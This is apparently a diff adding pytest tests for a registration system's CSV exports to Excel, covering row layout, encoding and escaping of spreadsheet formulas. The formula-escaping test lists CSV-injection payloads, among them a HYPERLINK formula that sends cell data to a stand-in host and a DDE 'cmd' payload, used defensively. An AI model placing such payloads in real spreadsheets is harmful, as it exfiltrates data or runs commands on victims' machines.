@@ -1,0 +1,103 @@
+"""Exports: tables that open in Excel as they are, and run nothing."""
+
+import csv
+from dataclasses import replace
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from mailflow import export
+from mailflow.model import Registration, Status
+
+from .readings import registration
+
+
+def rows(sheet: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(sheet.removeprefix("\ufeff").splitlines()))
+
+
+def attendees(*registrations: Registration) -> list[dict[str, str]]:
+    return rows(export.attendees_csv(registrations))
+
+
+def test_every_line_is_one_attendee() -> None:
+    entry = registration("Ана Анић", "Бора Борић", city="Ниш")
+
+    assert [(row["reference"], row["name"], row["city"]) for row in attendees(entry)] == [
+        (entry.reference, "Ана Анић", "Ниш"),
+        (entry.reference, "Бора Борић", "Ниш"),
+    ]
+
+
+def test_every_line_of_the_other_sheet_is_one_registration() -> None:
+    sheet = rows(export.registrations_csv([registration("Ана Анић", "Бора Борић")]))
+
+    assert [row["attendees"] for row in sheet] == ["Ана Анић; Бора Борић"]
+    assert sheet[0]["contact_email"] == "ana@breza.example"
+
+
+def test_excel_is_told_that_it_is_utf_8() -> None:
+    assert export.attendees_csv([]).encode().startswith(b"\xef\xbb\xbfreference,")
+
+
+def test_an_attendee_of_a_cancelled_registration_is_cancelled() -> None:
+    assert attendees(registration(status=Status.CANCELLED))[0]["status"] == "cancelled"
+
+
+def test_a_guest_of_another_organisation_keeps_it() -> None:
+    entry = registration()
+    guest = replace(entry.attendees[0], organisation="Јела")
+
+    assert attendees(replace(entry, attendees=(guest,)))[0]["organisation"] == "Јела"
+
+
+@pytest.mark.parametrize(
+    "evil",
+    [
+        '=HYPERLINK("http://evil.example?d="&A2,"x")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+        "\n=1",
+        "  =1",
+        "\u200b=1",
+        "\u202e=1",
+        "\u00a0=1",
+        "＝1",
+        "＋1",
+        "－1",
+        "＠A",
+        "|x",
+        "%x",
+        "+381641234567;=1",
+        "+٣٨١٦٤١٢٣٤٥",
+    ],
+)
+def test_no_cell_is_a_formula(evil: str) -> None:
+    entry = registration(evil, organisation=evil, city=evil)
+    row = attendees(entry)[0]
+
+    assert {row["name"][0], row["organisation"][0], row["city"][0]} == {"'"}
+
+
+@pytest.mark.parametrize("phone", ["+381641234567", "+38111234567"])
+def test_a_telephone_number_stays_usable(phone: str) -> None:
+    entry = registration()
+    called = replace(entry.attendees[0], phone=phone)
+
+    assert attendees(replace(entry, attendees=(called,)))[0]["phone"] == phone
+
+
+@pytest.mark.parametrize("plain", ["Ана-Марија", "д.о.о.", "1. април", "Анић, Ана", 'А "Б" В'])
+def test_ordinary_words_stay_as_they_are(plain: str) -> None:
+    assert attendees(registration(plain))[0]["name"] == plain
+
+
+@given(st.text(max_size=80))
+def test_any_text_at_all_stays_in_its_cell(text: str) -> None:
+    sheet = export.registrations_csv([registration(city=text), registration(city="Ниш")])
+
+    assert [row["city"] for row in rows(sheet)][1:] == ["Ниш"]
